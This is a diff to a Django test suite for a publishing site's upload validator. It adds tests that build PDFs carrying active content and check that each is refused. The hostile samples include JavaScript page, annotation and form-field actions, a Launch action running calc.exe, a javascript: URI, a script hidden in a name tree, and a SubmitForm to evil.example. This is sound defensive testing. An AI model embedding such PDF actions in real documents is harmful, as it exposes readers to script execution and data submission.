@@ -20,7 +20,13 @@ from django.urls import reverse
 from django.utils.html import escape
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from articles.models import Article, Issue, Photo
 from articles.uploads import UploadedImageField, UploadedPdfField
@@ -168,6 +174,129 @@ def test_pdf_field_refuses_what_is_not_a_plain_pdf(content, code):
     assert refused.value.code == code
 
 
+def _action(kind, **entries):
+    action = {NameObject("/S"): NameObject(kind)}
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return DictionaryObject(action)
+
+
+def _script():
+    return _action("/JavaScript", JS=TextStringObject("app.alert('x');"))
+
+
+def _link_annotation(writer, action):
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
+            NameObject("/A"): writer._add_object(action),
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return annotation
+
+
+def _page_actions(writer):
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _script()})
+
+
+def _annotation_script(writer):
+    _link_annotation(writer, _script())
+
+
+def _annotation_additional_actions(writer):
+    annotation = _link_annotation(writer, _action("/GoTo", D=ArrayObject([NumberObject(0)])))
+    annotation[NameObject("/AA")] = DictionaryObject({NameObject("/E"): _script()})
+
+
+def _launch(writer):
+    _link_annotation(writer, _action("/Launch", F=TextStringObject("calc.exe")))
+
+
+def _chained_script(writer):
+    _link_annotation(writer, _action("/URI", URI=TextStringObject("https://a.cn/"), Next=_script()))
+
+
+def _javascript_uri(writer):
+    _link_annotation(writer, _action("/URI", URI=TextStringObject("javascript:alert(1)")))
+
+
+def _form_field_actions(writer):
+    field = DictionaryObject(
+        {
+            NameObject("/FT"): NameObject("/Tx"),
+            NameObject("/T"): TextStringObject("name"),
+            NameObject("/AA"): DictionaryObject({NameObject("/K"): _script()}),
+        }
+    )
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject([writer._add_object(field)])}
+    )
+
+
+def _names_javascript(writer):
+    scripts = DictionaryObject(
+        {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(_script())])}
+    )
+    writer.root_object[NameObject("/Names")] = DictionaryObject(
+        {NameObject("/Dests"): writer._add_object(scripts)}  # a name tree under another name
+    )
+
+
+def _outline_submit(writer):
+    item = writer.add_outline_item("版面", 0)
+    item.get_object()[NameObject("/A")] = _action(
+        "/SubmitForm", F=TextStringObject("https://evil.example/")
+    )
+
+
+def _pdf_with(change):
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    change(writer)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        _page_actions,
+        _annotation_script,
+        _annotation_additional_actions,
+        _launch,
+        _chained_script,
+        _javascript_uri,
+        _form_field_actions,
+        _names_javascript,
+        _outline_submit,
+    ],
+)
+def test_pdf_field_refuses_actions_wherever_they_are(change):
+    with pytest.raises(ValidationError) as error:
+        UploadedPdfField().clean(upload(_pdf_with(change), "page.pdf", "application/pdf"))
+    assert error.value.code == "active_content"
+
+
+def test_pdf_field_accepts_links_to_pages_and_web_addresses():
+    def links(writer):
+        _link_annotation(
+            writer,
+            _action(
+                "/URI",
+                URI=TextStringObject("https://fyzk.example.cn/"),
+                Next=_action("/GoTo", D=ArrayObject([NumberObject(0)])),
+            ),
+        )
+        writer.add_outline_item("版面", 0)
+
+    content = _pdf_with(links)
+    assert UploadedPdfField().clean(upload(content, "page.pdf", "application/pdf"))
+
+
 def test_pdf_size_cap(settings):
     settings.PDF_UPLOAD_MAX_BYTES = 100
     with pytest.raises(ValidationError) as refused:
@@ -311,6 +440,7 @@ def put_media(relative, content):
 
 def test_uploads_are_served_unsniffable_and_unable_to_run(client):
     put_media("uploads/2025/01/a.jpg", image_bytes())
+    ArticleFactory(body=f'<p><img src="{settings.MEDIA_URL}uploads/2025/01/a.jpg"></p>')
     response = client.get("/media/uploads/2025/01/a.jpg")
     assert response.status_code == 200
     assert response["Content-Type"] == "image/jpeg"
@@ -322,6 +452,7 @@ def test_uploads_are_served_unsniffable_and_unable_to_run(client):
 
 def test_page_pdfs_are_served_as_downloads(client):
     put_media("pages/2025/page.pdf", pdf_bytes())
+    IssueFactory(page_pdf="pages/2025/page.pdf")  # published
     response = client.get("/media/pages/2025/page.pdf")
     assert response.status_code == 200
     assert response["Content-Type"] == "application/pdf"
